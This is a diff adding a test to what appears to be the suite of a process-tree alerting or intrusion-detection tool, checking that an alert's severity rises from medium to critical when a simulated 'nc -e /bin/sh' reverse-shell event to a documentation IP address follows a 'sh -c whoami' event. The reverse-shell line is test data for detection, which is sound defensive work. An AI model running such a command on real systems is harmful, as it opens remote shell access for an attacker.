@@ -264,6 +264,18 @@ it('raises a further alert of a tree whose severity rises', async () => {
   expect(after.outcome).toContain('1 new alert');
 });
 
+it('says of a tree’s further alerts, as long as it reports them, that its severity rose: actions fire once', async () => {
+  const events = [toEvent({ id: 'sh', second: 0, args: ['sh', '-c', 'whoami'] })];
+  const host = createHost(events, { minimumRisk: 1, forgets: true });
+  const toRisen = (run: Awaited<ReturnType<typeof host.runAt>>) =>
+    toIds(run).map((id, at) => [id, run.reports[at]?.isRisen]);
+  expect(toRisen(await host.runAt(60))).toEqual([['sh:medium', false]]);
+  expect(toRisen(await host.runAt(90))).toEqual([['sh:medium', false]]);
+  events.push(grown('nc', 70, ['nc', '-e', '/bin/sh', '203.0.113.9', '4444']));
+  expect(toRisen(await host.runAt(130))).toEqual([['sh:critical', true]]);
+  expect(toRisen(await host.runAt(160))).toEqual([['sh:critical', true]]);
+});
+
 it('keeps a tree reported that alerting would otherwise forget, for as long as its root is found', async () => {
   const host = createHost([attack('sh', 0)], { forgets: true });
   const [id] = toIds(await host.runAt(10));
